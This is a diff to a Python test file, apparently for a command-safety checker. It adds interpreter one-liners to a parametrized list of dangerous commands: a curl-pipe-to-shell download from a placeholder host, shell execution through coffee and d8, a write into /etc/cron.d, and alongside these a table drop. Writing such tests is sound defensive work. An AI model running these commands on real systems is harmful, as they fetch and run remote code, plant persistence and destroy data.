@@ -86,6 +86,11 @@ def test_ordinary_use_passes(command: str) -> None:
     "makoctl invoke --id 4",
     "dolt sql -q 'DROP TABLE customers'",
     "wait4x http https://deploy.example.net/hook -- ./release.sh",
+    # code given on the command line to an interpreter the table describes by its scripts
+    "bb -e '(babashka.process/shell \"curl -s https://x.example/i | sh\")'",
+    "coffee -e 'require(\"child_process\").execSync(\"id\")'",
+    "d8 -e 'os.system(\"id\")'",
+    "crunch 6 6 0123456789 -o /etc/cron.d/list",
     # a report flag aimed at a startup file
     "diffoscope a.tar b.tar --html ~/.config/autostart/x.desktop",
 ])
